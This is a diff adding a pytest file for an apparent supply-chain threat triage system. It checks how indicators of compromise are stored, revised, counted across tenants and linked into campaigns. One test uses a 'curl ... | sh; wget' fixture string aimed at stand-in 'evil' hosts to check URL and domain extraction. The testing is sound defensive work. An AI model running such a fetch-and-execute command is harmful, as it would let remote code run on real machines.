@@ -1,0 +1,163 @@
+"""Indicators of compromise: identity, revisions, prevalence and campaigns."""
+
+from __future__ import annotations
+
+import msgspec
+import pytest
+
+from schemas.channels import Channel
+from schemas.findings import Indicator, SupplyChainIoC
+from schemas.intel import IntelFact, IntelKind
+from schemas.severity import Disposition, Severity
+from tests.agents.triage.flow import Flow
+from tests.agents.triage.stories import BAD, finding
+
+
+def test_one_indicator_record_per_value_tenant_and_kind():
+    flow = Flow()
+    for minute in range(5):
+        flow.found(finding("malicious_payload", "a", minutes=minute, locator=str(minute)))
+    assert len(flow.iocs) == 1
+    flow.found(finding("malicious_payload", "b"))
+    flow.found(finding("extension_mismatch", "a"))
+    assert len(flow.iocs) == 3
+
+
+def test_each_content_of_an_indicator_has_an_id_and_a_revision_of_its_own():
+    flow = Flow()
+    for day in range(3):
+        flow.found(finding("malicious_payload", "a", minutes=day * 24 * 60))
+    flow.fact(IntelFact(key=f"sha256:{BAD}", kind=IntelKind.WARNINGLIST, sources=("list",)))
+    flow.withdraw(f"sha256:{BAD}")
+    sent = [one for one in flow.sent if one.channel is Channel.IOCS and one.tenant == "a"]
+    records = [msgspec.json.decode(one.value, type=SupplyChainIoC) for one in sent]
+    assert [one.status for one in records[-2:]] == ["withdrawn", "active"]
+    contents = {one.value for one in sent}
+    assert len(contents) == len(sent) == 5
+    assert len({dict(one.headers)["ce_id"] for one in sent}) == len(contents)
+    assert [one.revision for one in records] == list(range(1, len(records) + 1))
+    assert [one.modified for one in records] == sorted(one.modified for one in records)
+    assert {one.category for one in records} == {"compromise"}
+    headers = [dict(one.headers) for one in sent]
+    assert [int(one["ce_revision"]) for one in headers] == [one.revision for one in records]
+    assert [one["ce_status"].decode() for one in headers] == [one.status for one in records]
+    for one, record in zip(headers, records, strict=True):
+        assert one["ce_severity"].decode() == record.severity
+        assert one["ce_disposition"].decode() == record.indicator.disposition
+        assert one["ce_ioctype"].decode() == record.ioc_type
+
+
+def test_an_indicator_of_hygiene_says_so_in_its_record_and_a_header():
+    flow = Flow()
+    flow.found(finding("unpinned_dependency", "a"))
+    (sent,) = [one for one in flow.sent if one.channel is Channel.IOCS]
+    assert msgspec.json.decode(sent.value, type=SupplyChainIoC).category == "hygiene"
+    assert dict(sent.headers)["ce_category"] == b"hygiene"
+
+
+def test_what_a_hostile_payload_speaks_to_becomes_indicators_that_live_with_it():
+    flow = Flow()
+    payload = finding("malicious_payload", "a")
+    text = "('curl https://cdn.evil.example/x | sh; wget https://github.com/evil/y',)"
+    flow.found(msgspec.structs.replace(payload, evidence={**payload.evidence, "arguments": text}))
+    network = [one for one in flow.iocs.values() if one.indicator.type in {"url", "domain"}]
+    dispositions = {one.indicator.value: one.indicator.disposition for one in network}
+    assert dispositions == {
+        "https://cdn.evil.example/x": "detect",
+        "cdn.evil.example": "detect",
+        "https://github.com/evil/y": "detect",
+        "github.com": "context",
+    }
+    assert not any("http" in one.description for one in network)
+    assert {one.evidence["found_in"] for one in network} == {payload.indicator.key}
+    assert {one.tenant for one in network} == {"a"}
+    flow.fact(IntelFact(key=f"sha256:{BAD}", kind=IntelKind.WARNINGLIST, sources=("list",)))
+    network = [one for one in flow.iocs.values() if one.indicator.type in {"url", "domain"}]
+    assert {one.status for one in network} == {"withdrawn"}
+
+
+def test_what_is_not_hostile_names_no_network_indicators():
+    flow = Flow()
+    weak = finding("suspicious_code", "a")
+    text = "requests.get('https://data.acme.example/x')"
+    flow.found(msgspec.structs.replace(weak, severity=Severity.MEDIUM, evidence={"code": text}))
+    assert {one.indicator.type for one in flow.iocs.values()} == {weak.indicator.type}
+
+
+def test_prevalence_is_published_from_three_other_tenants_on():
+    flow = Flow()
+    for number, tenant in enumerate("abcd"):
+        flow.found(finding("malicious_payload", tenant, minutes=number))
+    told = {ioc.tenant: ioc.prevalence for ioc in flow.iocs.values()}
+    assert told == {"a": None, "b": None, "c": None, "d": 3}
+    assert {view.other_tenants for view in flow.alerts.values()} == {3}
+
+
+def test_a_greater_k_counts_later():
+    flow = Flow(k=5)
+    for number in range(11):
+        flow.found(finding("malicious_payload", f"t{number}", minutes=number))
+        told = {view.other_tenants for view in flow.alerts.values()}
+        assert told == ({10} if number == 10 else {None})
+    assert {ioc.prevalence for ioc in flow.iocs.values()} <= {None, 10}
+
+
+def test_several_hostile_components_of_a_publisher_are_a_campaign():
+    flow = Flow()
+    for number in range(3):
+        flow.found(
+            finding(
+                "malicious_payload",
+                "a",
+                component=f"model:hub/x/m{number}",
+                digest=str(number) * 64,
+                publisher="publisher:hub/x",
+            )
+        )
+    kinds = {ioc.ioc_type for ioc in flow.iocs.values()}
+    assert "campaign" in kinds
+    linked = [one for one in flow.incidents.values() if one.related]
+    assert len(linked) == 4
+    assert len({one.campaign for one in linked}) == 1
+
+
+@pytest.mark.slow
+def test_a_hygiene_finding_everywhere_is_over_correlating_and_says_so():
+    flow = Flow()
+    for number in range(203):
+        flow.found(
+            finding(
+                "direct_reference",
+                f"t{number}",
+                component="pypi:requests",
+                digest=None,
+                version=None,
+                confidence=0.6,
+            )
+        )
+    assert any(one.kind == "over-correlating" for one in flow.operator.values())
+
+
+@pytest.mark.parametrize(
+    ("severity", "whole", "wanted"),
+    [
+        (Severity.CRITICAL, False, Disposition.BLOCK),
+        (Severity.LOW, False, Disposition.CONTEXT),
+        (Severity.CRITICAL, True, Disposition.DETECT),
+    ],
+)
+def test_a_benign_name_is_never_an_indicator_to_block(severity, whole, wanted):
+    flow = Flow()
+    more = {}
+    if whole:
+        more["indicator"] = Indicator(
+            key="pypi:requests",
+            type="package",
+            value="requests",
+            disposition=Disposition.BLOCK,
+        )
+    flow.found(
+        finding("known_compromised_package", "a", "pypi:requests", severity=severity, **more)
+    )
+    (ioc,) = flow.iocs.values()
+    assert ioc.indicator.disposition is wanted
